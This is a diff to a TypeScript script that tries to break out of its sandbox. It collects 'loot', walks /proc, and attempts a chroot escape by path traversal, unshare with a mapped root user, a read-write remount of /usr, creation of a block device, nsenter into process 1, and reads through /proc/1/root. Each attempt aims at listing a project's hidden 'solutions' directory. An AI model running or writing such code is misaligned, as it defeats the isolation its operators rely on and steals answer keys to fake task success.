@@ -1,6 +1,8 @@
 import { execFileSync } from 'node:child_process';
 import { chmodSync, closeSync, openSync, readdirSync, statSync, utimesSync } from 'node:fs';
 import { createServer } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 
 const loot: string[] = [];
 const attempt = (how: string, run: () => unknown): void => {
@@ -34,11 +36,11 @@ const below = (folder: string, depth = 0): void => {
 };
 below('/proc');
 const run = (command: string, ...args: string[]): string => execFileSync(command, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 2000 });
-const outside = 'cd /tmp && mkdir -p out && chroot out /bin/sh -c "cd ../../../../../.. && ls {{PROJECT}}/solutions"';
+const outside = 'cd / && cd tmp && mkdir -p out && chroot out /bin/sh -c "cd ../../../../../.. && ls {{PROJECT}}/solutions"';
 attempt('a namespace of its own', () => run('unshare', '--user', '--map-root-user', '--mount', '/bin/sh', '-c', outside));
 attempt('another root', () => run('/bin/sh', '-c', outside));
 attempt('a mount', () => run('mount', '-o', 'remount,bind,rw', '/usr'));
-attempt('a device', () => run('mknod', '/tmp/disk', 'b', '8', '0'));
+attempt('a device', () => run('mknod', join(tmpdir(), 'disk'), 'b', '8', '0'));
 attempt('the namespaces of process 1', () => run('nsenter', '--target', '1', '--mount', '--pid', 'ls', '{{PROJECT}}/solutions'));
 for (const path of ['/proc/1/root', '/proc/1/cwd', '/proc/self/cwd/../../../../../..']) attempt(path, () => readdirSync(`${path}{{PROJECT}}/solutions`).join());
 
